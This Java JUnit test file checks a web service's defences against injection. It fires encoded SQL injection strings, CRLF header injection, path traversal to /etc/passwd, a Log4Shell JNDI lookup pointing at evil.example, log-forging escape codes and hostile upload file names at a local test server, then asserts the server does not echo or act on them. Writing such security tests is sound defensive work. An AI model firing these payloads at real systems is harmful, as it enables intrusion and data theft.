package io.holdfast.adapters.web;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import io.holdfast.adapters.web.AttackRequests.Parameter;
import io.holdfast.adapters.web.testing.ContractClient;
import java.util.ArrayList;
import java.util.List;
import java.util.logging.Handler;
import java.util.logging.LogRecord;
import java.util.logging.Logger;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.json.JsonMapper;

/// Attacks by text that means something to whoever reads it next: a query, a header, a log, a file
/// system.
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class InjectionAttackTest {

    /// Percent-encoded.
    private static final List<String> NASTY =
            List.of(
                    "%27%20OR%201%3D1%20--",
                    "%27%3BDROP%20TABLE%20users%3B--",
                    "%25",
                    "%5F%25%5C",
                    "%00",
                    "a%00b",
                    "%0d%0aX-Evil:%201",
                    "%1b[31m",
                    "%22%7D%2C%7B",
                    "..%2F..%2F..%2Fetc%2Fpasswd",
                    "..%5C..%5Cwindows%5Cwin.ini",
                    "%2Fetc%2Fpasswd",
                    "C%3A%5Cwindows",
                    "%252e%252e%252f",
                    "%e2%80%ae",
                    "%ff%fe",
                    "%c0%ae",
                    "%ed%a0%80",
                    "$%7Bjndi:ldap:%2F%2Fevil.example%2Fa%7D",
                    "9".repeat(400),
                    "-1",
                    "1e999",
                    "NaN");

    private final TestServer server = TestServer.start();

    @AfterAll
    void stop() {
        server.close();
    }

    static Stream<Parameter> parameters() {
        return AttackRequests.parameters().stream();
    }

    /// Every parameter of every operation, as whoever is let in everywhere.
    @ParameterizedTest
    @MethodSource("parameters")
    void nasty_text_in_a_parameter(Parameter parameter) {
        for (var nasty : NASTY) {
            var request =
                    """
                    %s %s HTTP/1.1\r
                    Host: localhost\r
                    Connection: close\r
                    X-API-Key: %s\r
                    Authorization: Bearer %s\r
                    Content-Length: 0\r
                    \r
                    """
                            .formatted(
                                    parameter.operation().method(),
                                    AttackRequests.path(parameter, nasty),
                                    parameter.operation().access().equals("admin-key")
                                            ? TestServer.ADMIN_KEY
                                            : TestServer.CLIENT_KEY,
                                    server.adminToken);
            var answer = RawConnection.exchange(server.web.port(), request);
            assertThat(answer).as(nasty).matches("(?s)HTTP/1\\.1 [234]\\d\\d .*");
            var head = answer.split("\r\n\r\n", 2)[0];
            assertThat(head).as(nasty).doesNotContain("\nX-Evil", "\u001b", "root:");
        }
    }

    /// Whoever looks at the first and whoever looks at the last would see two requests.
    @Test
    void the_same_parameter_twice() {
        var answer = server.asAdmin("GET", "/users?limit=1&limit=2").send();

        assertThat(answer.status()).isEqualTo(422);
        assertThat(answer.json().path("errors").findValuesAsString("pointer"))
                .containsExactly("#/query/limit");
    }

    @Test
    void a_header_by_a_line_break_in_a_header() {
        var answer =
                RawConnection.exchange(
                        server.web.port(),
                        """
                        GET / HTTP/1.1\r
                        Host: localhost\r
                        Connection: close\r
                        X-Request-ID: a\rX-Evil: 1\r
                        \r
                        """);

        assertThat(answer.split("\r\n\r\n", 2)[0]).doesNotContain("X-Evil");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a\",\"status\":200,\"x\":\"",
                "\u001b[2J\u001b[31mall is well",
                "%0aGET /forged",
                "a b",
            })
    void the_access_log_by_a_header(String text) {
        try (var log = new Lines("io.holdfast.access")) {
            var _ =
                    RawConnection.exchange(
                            server.web.port(),
                            """
                            G"ET /nowhere HTTP/1.1\r
                            Host: localhost\r
                            Connection: close\r
                            X-Request-ID: %1$s\r
                            User-Agent: %1$s\r
                            X-Forwarded-For: %1$s\r
                            \r
                            """
                                    .formatted(text));
            server.client
                    .get("/users")
                    .header("X-Request-ID", "after-it")
                    .header("User-Agent", text.replaceAll("\\p{Cntrl}", "?"))
                    .send();
            log.await("after-it");
            for (var line : log.lines()) {
                assertThat(line.chars()).allMatch(c -> c >= ' ' && c <= '~');
                var entry = JsonMapper.shared().readTree(line);
                assertThat(entry.propertyNames())
                        .containsExactly(
                                "time",
                                "request_id",
                                "method",
                                "route",
                                "status",
                                "bytes",
                                "micros",
                                "client");
                assertThat(line).doesNotContain("forged", "all is well");
            }
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "../../../etc/cron.d/evil",
                "..\\\\..\\\\windows\\\\evil.csv",
                "/etc/passwd",
                "C:\\\\evil.csv",
                "\\\\\\\\host\\\\share\\\\evil.csv",
                "evil.csv\u0000.exe",
                "a\u001b[31m.csv",
                "<script>alert(1)</script>.csv",
                "CON",
            })
    void a_path_in_the_name_of_an_uploaded_file(String name) {
        var table = "id,charge,plan,paperless,left\nc1,70,basic,1,Yes\n".getBytes(UTF_8);
        var answer =
                server.asAdmin("POST", "/admin/upload_data")
                        .parts(ContractClient.part("file", name, table))
                        .send();

        assertThat(answer.status()).isIn(200, 400);
        if (answer.status() == 200) {
            var stored = server.datasets.latest("telco").orElseThrow();
            assertThat(stored.name().chars()).noneMatch(Character::isISOControl);
            assertThat(answer.json().path("file_saved_at").asString())
                    .isEqualTo(stored.id().toString());
        }
    }

    /// What a logger was given.
    private static final class Lines extends Handler implements AutoCloseable {

        private static final long LIMIT_NANOS = 10_000_000_000L;

        private final Logger logger;
        private final List<String> lines = new ArrayList<>();

        Lines(String name) {
            logger = Logger.getLogger(name);
            logger.addHandler(this);
        }

        synchronized List<String> lines() {
            return List.copyOf(lines);
        }

        synchronized void await(String text) {
            long deadline = System.nanoTime() + LIMIT_NANOS;
            while (lines.stream().noneMatch(line -> line.contains(text))) {
                long left = (deadline - System.nanoTime()) / 1_000_000;
                assertThat(left).as("time left for a line with " + text).isPositive();
                try {
                    wait(left);
                } catch (InterruptedException e) {
                    throw new IllegalStateException("was interrupted", e);
                }
            }
        }

        @Override
        public synchronized void publish(LogRecord record) {
            lines.add(record.getMessage());
            notifyAll();
        }

        @Override
        public void flush() {}

        @Override
        public void close() {
            logger.removeHandler(this);
        }
    }
}
